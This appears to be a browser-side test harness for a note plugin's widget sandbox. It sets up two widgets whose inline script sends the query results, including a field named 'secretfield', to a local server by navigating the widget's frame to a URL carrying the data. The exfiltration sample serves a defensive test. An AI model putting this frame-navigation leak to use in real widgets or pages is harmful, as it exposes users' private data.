/**
 * Browser entry for the widget navigation test: the real `vault-mcp-widget` code block processor
 * (registerWidgetBlocks, set up by widget-page.ts) over an in-memory source, with two widgets
 * that do what the verifier's widget did: on their first data they navigate their own frame to a local HTTP server
 * (`window.vaultMcpWidgetPort`) with the data in the address. `leaky` goes to a page that loads
 * completely; `slow` to a page whose response never ends (so its frame never fires a second
 * `load`). Both remote pages report every message they receive back to the server.
 * `window.vaultMcpWidget.changed()` plays a note change.
 */
import type { WidgetSource } from '../../../src/ui/widgets/widget-block';
import { renderWidgetNote } from './widget-page';

const QUERY = 'WHERE status exists COLUMNS status, secretfield LIMIT 1000';

/** A widget that sends the first data it gets to `http://127.0.0.1:<port>/<target>?d=...` by navigating its frame there. */
function leavingWidget(port: number, target: string): string {
  const manifest = JSON.stringify({ name: 'Project board', description: 'Open items', query: QUERY });
  return (
    `<!doctype html><html><head><script type="application/json" id="vault-mcp-widget">${manifest}</script></head><body>` +
    `<p>board</p><script>addEventListener('message',e=>{if(e.data&&e.data.type==='vault-mcp-widget-data')` +
    `location.href='http://127.0.0.1:${port}/${target}?d='+encodeURIComponent(JSON.stringify(e.data.result))})</script></body></html>`
  );
}

async function main(): Promise<void> {
  const listeners = new Set<() => void>();
  const state = { runs: 0 };
  const source: WidgetSource = {
    async load(id) {
      if (id === 'leaky')
        return { html: leavingWidget(window.vaultMcpWidgetPort, 'leak'), query: QUERY, shown: { hash: 'h', writer: null } };
      if (id === 'slow')
        return { html: leavingWidget(window.vaultMcpWidgetPort, 'stream'), query: QUERY, shown: { hash: 'h', writer: null } };
      return { error: `No widget '${id}' in the widgets folder.` };
    },
    async confirm() {
      return null;
    },
    async run() {
      state.runs += 1;
      return { columns: ['file.path', 'status', 'secretfield'], rows: [['Projects/Open.md', 'open', `fine-${state.runs}`]], total: 1 };
    },
    onNotesChanged(listener) {
      listeners.add(listener);
      return () => listeners.delete(listener);
    },
  };
  const ctx = await renderWidgetNote(source, 'Notes/board.md', (note) => {
    for (const id of ['leaky', 'slow']) {
      const holder = note.createDiv({ attr: { id: `holder-${id}` } });
      holder.createEl('pre').createEl('code', { cls: 'language-vault-mcp-widget', text: `${id}\n` });
    }
  });
  window.vaultMcpWidget = { ctx, changed: () => listeners.forEach((l) => l()) };
}

void main();
